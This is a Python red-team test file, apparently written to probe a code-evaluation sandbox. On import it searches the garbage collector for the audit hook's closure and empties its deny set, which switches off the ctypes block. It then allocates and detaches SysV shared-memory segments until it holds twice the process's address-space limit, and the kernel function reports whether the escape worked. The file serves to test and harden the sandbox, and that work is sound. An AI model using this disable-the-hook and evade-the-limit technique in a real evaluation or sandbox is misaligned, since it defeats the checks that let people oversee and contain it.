"""Boundary (memory limit): SysV shared memory (shmget/shmat/shmdt) was not in the seccomp
deny list, and a detached segment's pages count against no rlimit (RLIMIT_AS only while
attached). The audit hook that stops ctypes is an ordinary closure in this process: emptying
its `denied` cell turns it off. Success: it held twice its address-space limit and says so
(the REDTEAM-SYSV marker; 4 GiB at a 2 GiB limit before the fix)."""

import gc
import resource
import types

for _o in gc.get_objects():
    if type(_o) is types.FunctionType and _o.__name__ == "hook" and _o.__closure__:
        for _c in _o.__closure__:
            if isinstance(_c.cell_contents, frozenset) and "ctypes.dlopen" in _c.cell_contents:
                _c.cell_contents = frozenset()

import ctypes  # noqa: E402  (after the hook is emptied: importing it is audited)

_libc = ctypes.CDLL(None, use_errno=True)
_libc.shmget.restype = ctypes.c_int
_libc.shmget.argtypes = [ctypes.c_int, ctypes.c_size_t, ctypes.c_int]
_libc.shmat.restype = ctypes.c_void_p
_libc.shmat.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_int]
_libc.shmdt.argtypes = [ctypes.c_void_p]
_soft = resource.getrlimit(resource.RLIMIT_AS)[0]
SEG = 256 << 20
TARGET = 2 * _soft if _soft != resource.RLIM_INFINITY else 4 << 30
_held, _err = 0, ""
while _held < TARGET:
    sid = _libc.shmget(0, SEG, 0o1600)  # IPC_PRIVATE, IPC_CREAT | 0600
    if sid < 0:
        _err = f"shmget errno {ctypes.get_errno()}"
        break
    a = _libc.shmat(sid, None, 0)
    if a in (None, ctypes.c_void_p(-1).value):
        _err = f"shmat errno {ctypes.get_errno()}"
        break
    ctypes.memset(a, 1, SEG)  # the pages now exist in the segment
    _libc.shmdt(ctypes.c_void_p(a))
    _held += SEG


def kernel(x, weight, eps):
    if _held >= TARGET:
        raise RuntimeError(f"REDTEAM-SYSV held {_held >> 20} MiB, RLIMIT_AS {_soft >> 20} MiB")
    raise RuntimeError(f"contained after {_held >> 20} MiB: {_err}")
